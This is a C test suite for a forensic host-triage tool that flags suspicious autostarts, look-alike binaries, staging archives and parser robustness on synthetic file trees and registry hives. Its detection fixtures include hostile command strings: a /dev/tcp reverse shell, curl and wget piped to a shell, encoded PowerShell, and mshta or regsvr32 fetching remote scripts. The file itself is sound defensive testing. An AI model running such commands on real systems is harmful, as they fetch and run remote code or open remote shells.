/*
 * test_triage.c - host triage (src/ir/) through its internal header: places and look-alike
 * names, suspicious command text, path resolution that never leaves the ROOT, autostart
 * parsing (cron, units, anacron, udev, modprobe, task XML) on trees written here, the body
 * file line, and hostile inputs: long lines, broken XML, and registry hives built here with
 * hivex's write API and then mutated at random (a brief fuzz run; must not crash or print).
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include <hivex.h>

#include "ir/tri_int.h"
#include "testutil.h"

/* Writes a file below the current directory, creating its directories. */
static void put(const char *path, const void *data, size_t len, mode_t mode)
{
    char d[4096];
    snprintf(d, sizeof(d), "%s", path);
    for (char *p = d + 1; *p; p++)
        if (*p == '/') {
            *p = 0;
            mkdir(d, 0755);
            *p = '/';
        }
    int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, mode);
    assert_true(fd >= 0);
    assert_int_equal(write(fd, data, len), (ssize_t)len);
    close(fd);
}

static void puts_file(const char *path, const char *text)
{
    put(path, text, strlen(text), 0644);
}

/* Triage of ./root; returns the handle (caller frees).  Nothing may be printed. */
static fg_triage *triage_root(const char *root)
{
    fg_triage *t = NULL;
    struct tu_quiet q;
    tu_quiet_begin(&q);
    assert_int_equal(fg_triage_new(NULL, NULL, &t), 0);
    int rc = fg_triage_run(t, root);
    tu_quiet_end(&q);
    assert_int_equal(rc, 0);
    return t;
}

static const struct fg_tri_finding *find(fg_triage *t, const char *id, const char *path)
{
    for (size_t i = 0; i < fg_triage_count(t); i++) {
        const struct fg_tri_finding *f = fg_triage_get(t, i);
        if (!strcmp(f->id, id) && (!path || !strcmp(f->path, path)))
            return f;
    }
    return NULL;
}

static size_t count_above_info(fg_triage *t)
{
    size_t n = 0;
    for (size_t i = 0; i < fg_triage_count(t); i++)
        n += fg_triage_get(t, i)->severity > FG_SEV_INFO;
    return n;
}

static void test_names_and_places(void **state)
{
    (void)state;
    assert_int_equal(tri_levenshtein("scvhost", "svchost", 2), 2);
    assert_int_equal(tri_levenshtein("SVCHOST", "svchost", 2), 0);
    assert_true(tri_levenshtein("notepad", "svchost", 2) > 2);
    assert_int_equal(tri_place("/dev/shm/.x/kworker"), TRI_PL_SHM | TRI_PL_HIDDEN);
    assert_int_equal(tri_place("/tmp/.cache/a.zip.001"), TRI_PL_TEMP | TRI_PL_HIDDEN);
    assert_true(tri_place("/Users/a/AppData/Local/Temp/x.exe") & TRI_PL_TEMP);
    assert_true(tri_place("/users/a/appdata/roaming/x.exe") & TRI_PL_APPDATA);
    assert_false(tri_place("/home/a/.local/bin/tool") & TRI_PL_HIDDEN);
    assert_true(tri_place("/home/a/.x/tool") & TRI_PL_HIDDEN);
    assert_false(tri_place("/usr/lib/debug/.build-id/ab/cd") & TRI_PL_HIDDEN);
    assert_int_equal(tri_place_depth("/Users/a/AppData/Roaming/svchost.exe"), 0);
    assert_int_equal(tri_place_depth("/Users/a/AppData/Local/Microsoft/OneDrive/OneDrive.exe"), 2);
    assert_int_equal(tri_place_depth("/ProgramData/scvhost.exe"), 0);
    assert_non_null(tri_name_reason("/ProgramData/scvhost.exe", 1));
    assert_non_null(tri_name_reason("/Users/a/svchost.exe", 1));
    assert_null(tri_name_reason("/Windows/System32/svchost.exe", 1));
    assert_null(tri_name_reason("/Program Files/Internet Explorer/iexplore.exe", 1));
    assert_null(tri_name_reason("/Windows/System32/mstsc.exe", 1));
    assert_non_null(tri_name_reason("/tmp/kworker-0:1", 0));
    assert_null(tri_name_reason("/usr/sbin/sshd", 0));
    assert_non_null(tri_name_reason("/var/tmp/sshd", 0));
    assert_non_null(tri_name_reason("/x/invoice.pdf.exe", 1));
    assert_null(tri_name_reason("/x/report.v2.final.pdf", 1));
}

static void test_suspicious_text(void **state)
{
    (void)state;
    assert_non_null(tri_cmd_suspicious_text("powershell.exe -nop -w hidden -enc SQBFAFgA"));
    assert_non_null(tri_cmd_suspicious_text("PowerShell -EncodedCommand SQBFAFgA"));
    assert_non_null(tri_cmd_suspicious_text("curl -s http://x/y.sh | bash"));
    assert_non_null(tri_cmd_suspicious_text("echo aGk= | base64 -d | sh"));
    assert_non_null(tri_cmd_suspicious_text("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"));
    assert_non_null(tri_cmd_suspicious_text("mshta http://evil/x.hta"));
    assert_non_null(tri_cmd_suspicious_text("regsvr32 /s /n /u /i:http://x/a.sct scrobj.dll"));
    /* ordinary commands */
    assert_null(tri_cmd_suspicious_text("curl -fsS -m 10 https://hc-ping.com/abc >/dev/null"));
    assert_null(tri_cmd_suspicious_text("/usr/sbin/sshd -D $SSHD_OPTS"));
    assert_null(tri_cmd_suspicious_text("%windir%\\system32\\defrag.exe -c -h -o -$"));
    assert_null(tri_cmd_suspicious_text("powershell.exe -File C:\\Scripts\\backup.ps1"));
}

static void test_body_format(void **state)
{
    (void)state;
    struct fg_tri_body b = {.md5 = "0", .path = "/etc/passwd", .inode = 12,
                            .mode = S_IFREG | 0644, .uid = 0, .gid = 0, .size = 1234,
                            .atime = 1, .mtime = 2, .ctime = 3, .crtime = 0};
    char line[256];
    fg_tri_body_format(&b, line, sizeof(line));
    assert_string_equal(line, "0|/etc/passwd|12|-rw-r--r--|0|0|1234|1|2|3|0");
    b.mode = S_IFDIR | 0755;
    fg_tri_body_format(&b, line, sizeof(line));
    assert_non_null(strstr(line, "|drwxr-xr-x|"));
}

/* Links are followed as the system would, but ".." and absolute targets stop at the ROOT. */
static void test_resolve_stays_inside(void **state)
{
    (void)state;
    puts_file("root/etc/passwd", "root:x:0:0::/root:/bin/sh\n");
    puts_file("root/usr/bin/tool", "#!/bin/sh\n");
    assert_int_equal(symlink("usr/bin", "root/bin"), 0);
    assert_int_equal(symlink("../../../../../../etc", "root/usr/up"), 0);
    assert_int_equal(symlink("/etc", "root/abs"), 0);
    assert_int_equal(symlink("loop2", "root/loop1"), 0);
    assert_int_equal(symlink("loop1", "root/loop2"), 0);
    assert_int_equal(mkdir("root/Windows", 0755), 0);
    puts_file("root/Windows/System32/CMD.EXE", "MZ");
    struct tri_fs *fs = NULL;
    char err[256], out[4096];
    assert_int_equal(tri_fs_open("root", &fs, err, sizeof(err)), 0);
    assert_int_equal(tri_fs_resolve(fs, "/bin/tool", 0, out, sizeof(out)), 0);
    assert_string_equal(out, "/usr/bin/tool");
    assert_int_equal(tri_fs_resolve(fs, "/usr/up/passwd", 0, out, sizeof(out)), 0);
    assert_string_equal(out, "/etc/passwd"); /* the ROOT's, never the host's */
    assert_int_equal(tri_fs_resolve(fs, "/abs/passwd", 0, out, sizeof(out)), 0);
    assert_string_equal(out, "/etc/passwd");
    assert_int_not_equal(tri_fs_resolve(fs, "/abs/shadow", 0, out, sizeof(out)), 0);
    assert_int_not_equal(tri_fs_resolve(fs, "/loop1/x", 0, out, sizeof(out)), 0);
    assert_int_equal(tri_fs_resolve(fs, "/windows/system32/cmd.exe", 1, out, sizeof(out)), 0);
    assert_string_equal(out, "/Windows/System32/CMD.EXE");
    assert_int_not_equal(tri_fs_resolve(fs, "/windows/system32/cmd.exe", 0, out, sizeof(out)), 0);
    /* the lower layer refuses to walk through a link or up */
    struct tri_stat st;
    assert_int_not_equal(tri_fs_lstat(fs, "/bin/tool", &st), 0);
    assert_int_not_equal(tri_fs_lstat(fs, "/usr/../etc/passwd", &st), 0);
    uint8_t *d = NULL;
    size_t len;
    int trunc;
    assert_int_not_equal(tri_fs_read(fs, "/abs/passwd", 100, &d, &len, &trunc), 0);
    tri_fs_close(fs);
}

static void test_linux_autostarts(void **state)
{
    (void)state;
    puts_file("root/etc/os-release", "PRETTY_NAME=\"Test\"\n");
    put("root/usr/sbin/cron", "#!/bin/sh\n", 10, 0755);
    puts_file("root/etc/crontab", "SHELL=/bin/sh\n@reboot root /var/tmp/.u/run\n"
                                  "0 * * * * root test -x /usr/sbin/cron && /usr/sbin/cron\n");
    puts_file("root/var/spool/cron/crontabs/bob", "*/2 * * * * /home/bob/ok.sh\n"
                                                   "@hourly wget -q -O- http://x/y | sh\n");
    puts_file("root/etc/anacrontab", "1\t5\tcron.daily\trun-parts --report /etc/cron.daily\n"
                                     "7 10 evil /dev/shm/z\n");
    puts_file("root/etc/udev/rules.d/99-x.rules",
              "ACTION==\"add\", SUBSYSTEM==\"usb\", RUN+=\"/tmp/usb.sh\"\n");
    puts_file("root/etc/modprobe.d/x.conf", "install usb-storage /bin/true\n"
                                            "install dummy /sbin/modprobe --ignore-install dummy; /tmp/m\n");
    puts_file("root/etc/systemd/system/a.service",
              "[Service]\nExecStart=-/usr/sbin/cron -f\nExecStartPre=@/tmp/pre pre\n");
    fg_triage *t = triage_root("root");
    assert_string_equal(fg_triage_os(t), "linux");
    const struct fg_tri_finding *f = find(t, "tri.autostart.cron", "/etc/crontab");
    assert_non_null(f);
    int reboot = 0, ordinary = 0;
    for (size_t i = 0; i < fg_triage_count(t); i++) {
        f = fg_triage_get(t, i);
        if (!strcmp(f->path, "/etc/crontab") && strstr(f->command, "/var/tmp/.u/run"))
            reboot = f->severity == FG_SEV_HIGH;
        if (!strcmp(f->path, "/etc/crontab") && strstr(f->command, "/usr/sbin/cron"))
            ordinary = f->severity == FG_SEV_INFO && strstr(f->evidence, "target: /usr/sbin/cron (exists)");
    }
    assert_true(reboot);
    assert_true(ordinary);
    f = NULL;
    for (size_t i = 0; i < fg_triage_count(t); i++) {
        const struct fg_tri_finding *x = fg_triage_get(t, i);
        if (!strcmp(x->path, "/var/spool/cron/crontabs/bob") && x->severity == FG_SEV_HIGH)
            f = x;
    }
    assert_non_null(f);
    assert_string_equal(f->command, "wget -q -O- http://x/y | sh");
    f = find(t, "tri.autostart.udev", "/etc/udev/rules.d/99-x.rules");
    assert_non_null(f);
    assert_int_equal(f->severity, FG_SEV_HIGH);
    f = find(t, "tri.autostart.modprobe", "/etc/modprobe.d/x.conf");
    assert_non_null(f);
    assert_null(strstr(f->command, "/bin/true")); /* blocking a module is ordinary hardening */
    size_t sysd = 0;
    for (size_t i = 0; i < fg_triage_count(t); i++) {
        const struct fg_tri_finding *x = fg_triage_get(t, i);
        if (!strcmp(x->id, "tri.autostart.systemd"))
            sysd += x->severity == FG_SEV_HIGH ? 10 : 1;
    }
    assert_int_equal(sysd, 11); /* cron -f ordinary, /tmp/pre unusual */
    fg_triage_free(t);
}

static void test_staging_names(void **state)
{
    (void)state;
    puts_file("root/etc/os-release", "ID=x\n");
    const char *names[] = {"root/tmp/a.7z.001", "root/tmp/a.7z.002", "root/var/tmp/b.part1.rar",
                           "root/var/tmp/b.part2.rar", "root/home/u/c.z01", "root/home/u/c.zip",
                           "root/home/u/log.001", "root/home/u/syslog.1", "root/tmp/big.tar"};
    for (size_t i = 0; i < sizeof(names) / sizeof(names[0]); i++)
        puts_file(names[i], "data");
    put("root/tmp/tools/7z", "\177ELF", 4, 0755);
    fg_triage *t = triage_root("root");
    const struct fg_tri_finding *f = find(t, "tri.staging.split-archive", "/tmp/a.7z.001");
    assert_non_null(f);
    assert_int_equal(f->severity, FG_SEV_HIGH);
    assert_non_null(strstr(f->evidence, "2 part(s)"));
    assert_non_null(find(t, "tri.staging.split-archive", "/var/tmp/b.part1.rar"));
    f = find(t, "tri.staging.split-archive", "/home/u/c.z01");
    assert_non_null(f);
    assert_int_equal(f->severity, FG_SEV_MEDIUM); /* not in a staging place */
    assert_null(find(t, "tri.staging.split-archive", "/home/u/log.001"));
    assert_null(find(t, "tri.staging.split-archive", "/home/u/syslog.1"));
    assert_non_null(find(t, "tri.staging.archive", "/tmp/big.tar"));
    assert_non_null(find(t, "tri.staging.archiver", "/tmp/tools/7z"));
    fg_triage_free(t);
}

static void test_tasks_and_long_lines(void **state)
{
    (void)state;
    put("root/Windows/System32/cmd.exe", "MZ", 2, 0644);
    puts_file("root/Windows/System32/Tasks/Ok",
              "<Task><Actions><Exec><Command>C:\\Windows\\System32\\cmd.exe</Command>"
              "<Arguments>/c echo &amp; exit</Arguments></Exec></Actions></Task>");
    puts_file("root/Windows/System32/Tasks/Sub/Bad",
              "<Task><Exec><Command>mshta.exe</Command><Arguments>http://x/a.hta</Arguments></Exec>");
    puts_file("root/Windows/System32/Tasks/Broken", "<Task><Exec><Command>unterminated");
    size_t big = 3 << 20;
    char *line = malloc(big + 1);
    memset(line, 'A', big);
    line[big] = 0;
    memcpy(line, "ExecStart=/tmp/", 15);
    put("root/etc/systemd/system/long.service", line, big, 0644);
    puts_file("root/etc/os-release", "ID=x\n");
    free(line);
    fg_triage *t = triage_root("root");
    assert_string_equal(fg_triage_os(t), "linux+windows");
    const struct fg_tri_finding *f = find(t, "tri.autostart.task", "/Windows/System32/Tasks/Ok");
    assert_non_null(f);
    assert_int_equal(f->severity, FG_SEV_INFO);
    assert_string_equal(f->command, "C:\\Windows\\System32\\cmd.exe /c echo & exit");
    f = find(t, "tri.autostart.task", "/Windows/System32/Tasks/Sub/Bad");
    assert_non_null(f);
    assert_int_equal(f->severity, FG_SEV_HIGH);
    assert_null(find(t, "tri.autostart.task", "/Windows/System32/Tasks/Broken"));
    f = find(t, "tri.autostart.systemd", "/etc/systemd/system/long.service");
    assert_non_null(f); /* cut, still read */
    fg_triage_free(t);
}

/* The smallest hive hivex opens (as tests/gen/host_gen.py builds it). */
static size_t empty_hive(uint8_t *h)
{
    memset(h, 0, 8192);
    uint8_t *b = h + 4096;
    memcpy(b, "hbin", 4);
    tu_put_u32le(b + 8, 4096);
    uint8_t *nk = b + 0x20;
    tu_put_u32le(nk, (uint32_t)-88);
    memcpy(nk + 4, "nk", 2);
    nk[6] = 0x2C;
    tu_put_u32le(nk + 20, 0xFFFFFFFF);
    tu_put_u32le(nk + 32, 0xFFFFFFFF);
    tu_put_u32le(nk + 36, 0xFFFFFFFF);
    tu_put_u32le(nk + 44, 0xFFFFFFFF);
    tu_put_u32le(nk + 48, 0x20 + 88);
    tu_put_u32le(nk + 52, 0xFFFFFFFF);
    nk[76] = 4;
    memcpy(nk + 80, "ROOT", 4);
    uint8_t *sk = nk + 88;
    tu_put_u32le(sk, (uint32_t)-48);
    memcpy(sk + 4, "sk", 2);
    tu_put_u32le(sk + 8, 0x20 + 88);
    tu_put_u32le(sk + 12, 0x20 + 88);
    tu_put_u32le(sk + 16, 1);
    tu_put_u32le(sk + 20, 20);
    sk[24] = 1;
    sk[26] = 0x04;
    sk[27] = 0x80;
    tu_put_u32le(sk + 48, 4096 - 0x20 - 88 - 48);
    memcpy(h, "regf", 4);
    uint32_t hdr[] = {1, 1, 0, 0, 1, 3, 0, 1, 0x20, 4096, 1};
    for (size_t i = 0; i < 11; i++)
        tu_put_u32le(h + 4 + 4 * i, hdr[i]);
    uint32_t x = 0;
    for (size_t i = 0; i < 508; i += 4)
        x ^= (uint32_t)h[i] | (uint32_t)h[i + 1] << 8 | (uint32_t)h[i + 2] << 16 | (uint32_t)h[i + 3] << 24;
    tu_put_u32le(h + 508, x);
    return 8192;
}

static void set_sz(hive_h *h, hive_node_h n, const char *key, const char *v)
{
    char data[512];
    size_t k = 0;
    for (const char *p = v; *p; p++) {
        data[k++] = *p;
        data[k++] = 0;
    }
    data[k++] = 0;
    data[k++] = 0;
    hive_set_value val = {(char *)key, hive_t_REG_SZ, k, data};
    assert_int_equal(hivex_node_set_value(h, n, &val, 0), 0);
}

/* A SOFTWARE hive with a Run key, written with hivex; then mutated many times. */
static void test_hive_and_fuzz(void **state)
{
    (void)state;
    uint8_t base[8192];
    put("root/Windows/System32/config/SOFTWARE", base, empty_hive(base), 0644);
    put("root/Users/bob/AppData/Roaming/upd.exe", "MZ", 2, 0644);
    hive_h *h = hivex_open("root/Windows/System32/config/SOFTWARE", HIVEX_OPEN_WRITE);
    assert_non_null(h);
    hive_node_h n = hivex_root(h);
    const char *path[] = {"Microsoft", "Windows", "CurrentVersion", "Run"};
    for (size_t i = 0; i < 4; i++)
        n = hivex_node_add_child(h, n, path[i]);
    set_sz(h, n, "Updater", "C:\\Users\\bob\\AppData\\Roaming\\upd.exe");
    assert_int_equal(hivex_commit(h, NULL, 0), 0);
    hivex_close(h);
    fg_triage *t = triage_root("root");
    const struct fg_tri_finding *f = find(t, "tri.autostart.run", NULL);
    assert_non_null(f);
    assert_string_equal(f->path, "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater");
    assert_int_equal(f->severity, FG_SEV_HIGH); /* directly in AppData */
    fg_triage_free(t);
    size_t len;
    uint8_t *good = tu_read("root/Windows/System32/config/SOFTWARE", &len);
    srand(1234);
    /* FG_TRI_FUZZ_ITERATIONS runs a longer session by hand; the suite keeps it short. */
    const char *env = getenv("FG_TRI_FUZZ_ITERATIONS");
    long iters = env ? strtol(env, NULL, 10) : 0;
    if (iters <= 0)
        iters = 300;
    for (int iter = 0; iter < iters; iter++) {
        uint8_t *m = malloc(len);
        memcpy(m, good, len);
        int flips = 1 + rand() % 16;
        for (int k = 0; k < flips; k++) {
            size_t at = iter % 3 ? 4096 + (size_t)rand() % (len - 4096) : (size_t)rand() % len;
            m[at] = (uint8_t)rand();
        }
        put("root/Windows/System32/config/SOFTWARE", m, iter % 50 == 49 ? len / 2 : len, 0644);
        free(m);
        t = triage_root("root");
        fg_triage_free(t);
    }
    free(good);
}

/* WMI consumers found by their class names; a Startup shortcut's target. */
static void test_wmi_and_startup(void **state)
{
    (void)state;
    struct tu_bytes b = {0};
    uint8_t junk[3000];
    memset(junk, 0x11, sizeof(junk));
    tu_bytes_put(&b, junk, sizeof(junk));
    const char bvt[] = "CommandLineEventConsumer\0\0BVTConsumer\0cscript KernCap.vbs\0";
    tu_bytes_put(&b, bvt, sizeof(bvt));
    tu_bytes_put(&b, junk, sizeof(junk));
    const char bad[] = "CommandLineEventConsumer\0\0Updater\0powershell.exe -enc SQBFAFgA\0";
    tu_bytes_put(&b, bad, sizeof(bad));
    tu_bytes_put(&b, junk, sizeof(junk));
    put("root/Windows/System32/wbem/Repository/OBJECTS.DATA", b.p, b.len, 0644);
    free(b.p);
    const char lnk[] = "L\0\0\0\x01\x14\x02\0junk C:\\Users\\bob\\AppData\\Roaming\\upd.exe\0tail";
    put("root/Users/bob/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/upd.lnk", lnk,
        sizeof(lnk), 0644);
    put("root/Users/bob/AppData/Roaming/upd.exe", "MZ", 2, 0644);
    fg_triage *t = triage_root("root");
    int bvt_info = 0, bad_high = 0;
    for (size_t i = 0; i < fg_triage_count(t); i++) {
        const struct fg_tri_finding *f = fg_triage_get(t, i);
        if (strcmp(f->id, "tri.autostart.wmi"))
            continue;
        bvt_info |= strstr(f->evidence, "KernCap.vbs") && f->severity == FG_SEV_INFO;
        bad_high |= strstr(f->evidence, "powershell.exe -enc") && f->severity == FG_SEV_HIGH;
    }
    assert_true(bvt_info);
    assert_true(bad_high);
    const struct fg_tri_finding *f = find(t, "tri.autostart.startup", NULL);
    assert_non_null(f);
    assert_non_null(strstr(f->evidence, "AppData\\Roaming\\upd.exe (exists)"));
    assert_int_equal(f->severity, FG_SEV_HIGH);
    fg_triage_free(t);
}

/* Random damage to the text parsers' inputs: units, crontabs, task XML, desktop files, keys. */
static void test_text_fuzz(void **state)
{
    (void)state;
    static const char *const seeds[][2] = {
        {"root/etc/systemd/system/x.service", "[Service]\nExecStart=/usr/bin/x -a \"b c\"\n"},
        {"root/etc/cron.d/x", "*/5 * * * * root test -x /a && { cd /b; /c ; }\n@reboot root /d\n"},
        {"root/Windows/System32/Tasks/T", "<Task><Exec><Command>&quot;C:\\a b\\c.exe&quot;</Command>"
                                         "<Arguments>-x &amp;&lt;</Arguments></Exec></Task>"},
        {"root/etc/xdg/autostart/a.desktop", "[Desktop Entry]\nExec=env A=1 /usr/bin/a %U\n"},
        {"root/root/.ssh/authorized_keys", "command=\"/bin/x\",from=\"1.2.3.4\" ssh-rsa AAAAB3NzaC1yc2E= c\n"},
        {"root/etc/udev/rules.d/1.rules", "RUN+=\"/bin/a\", PROGRAM=\"/bin/b\", IMPORT{program}=\"c\"\n"},
        {"root/var/spool/cron/atjobs/a1", "#!/bin/sh\nexport A=1\ncd /tmp || {\n}\n${SHELL:-/bin/sh} << 'marcinDELIMITER1'\n/tmp/x\nmarcinDELIMITER1\n"},
    };
    put("root/etc/os-release", "ID=x\n", 5, 0644);
    put("root/Windows/System32/cmd.exe", "MZ", 2, 0644);
    srand(99);
    for (int iter = 0; iter < 200; iter++) {
        for (size_t i = 0; i < sizeof(seeds) / sizeof(seeds[0]); i++) {
            size_t l = strlen(seeds[i][1]);
            char buf[512];
            memcpy(buf, seeds[i][1], l);
            for (int k = 0; k < 1 + rand() % 6; k++) {
                size_t at = (size_t)rand() % l;
                buf[at] = (char)(rand() % 3 ? "\"<>&=;|/ \n\0%\\"[rand() % 13] : rand());
            }
            put(seeds[i][0], buf, iter % 7 ? l : (size_t)rand() % l, 0644);
        }
        fg_triage_free(triage_root("root"));
    }
}

static void test_quiet_tree_and_errors(void **state)
{
    (void)state;
    puts_file("root/etc/os-release", "PRETTY_NAME=\"Debian\"\n");
    puts_file("root/home/a/.bashrc", "alias ls='ls --color=auto'\nexport PATH=$PATH:~/bin\n");
    puts_file("root/home/a/.local/share/x.desktop", "[Desktop Entry]\n");
    assert_int_equal(mkdir("root/tmp", 0755), 0);
    assert_int_equal(mkdir("root/tmp/.X11-unix", 0755), 0);
    fg_triage *t = triage_root("root");
    assert_int_equal(count_above_info(t), 0);
    fg_triage_free(t);
    assert_int_equal(fg_triage_new(NULL, NULL, &t), 0);
    assert_int_equal(fg_triage_run(t, "no-such-root"), FG_EIO);
    assert_non_null(strstr(fg_triage_error(t), "no-such-root"));
    puts_file("notanimage", "hello");
    assert_int_equal(fg_triage_run(t, "notanimage"), FG_EFORMAT);
    fg_triage_free(t);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_names_and_places),
        cmocka_unit_test(test_suspicious_text),
        cmocka_unit_test(test_body_format),
        cmocka_unit_test_setup_teardown(test_resolve_stays_inside, tu_tmpdir_setup, tu_tmpdir_teardown),
        cmocka_unit_test_setup_teardown(test_linux_autostarts, tu_tmpdir_setup, tu_tmpdir_teardown),
        cmocka_unit_test_setup_teardown(test_staging_names, tu_tmpdir_setup, tu_tmpdir_teardown),
        cmocka_unit_test_setup_teardown(test_tasks_and_long_lines, tu_tmpdir_setup, tu_tmpdir_teardown),
        cmocka_unit_test_setup_teardown(test_hive_and_fuzz, tu_tmpdir_setup, tu_tmpdir_teardown),
        cmocka_unit_test_setup_teardown(test_wmi_and_startup, tu_tmpdir_setup, tu_tmpdir_teardown),
        cmocka_unit_test_setup_teardown(test_text_fuzz, tu_tmpdir_setup, tu_tmpdir_teardown),
        cmocka_unit_test_setup_teardown(test_quiet_tree_and_errors, tu_tmpdir_setup, tu_tmpdir_teardown),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
